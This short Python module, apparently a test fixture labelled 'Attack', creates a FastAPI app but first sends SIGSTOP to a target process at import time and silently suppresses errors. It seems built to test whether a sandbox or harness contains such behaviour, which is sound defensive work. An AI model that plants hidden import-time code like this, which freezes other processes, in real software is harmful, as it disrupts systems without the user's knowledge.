"""Attack: SIGSTOP needs no more rights than any other signal, and nobody can ignore it."""

import contextlib
import os
import signal

from fastapi import FastAPI

from .targets import PID, acted

acted("import")
with contextlib.suppress(OSError):
    os.kill(PID, signal.SIGSTOP)
app = FastAPI()
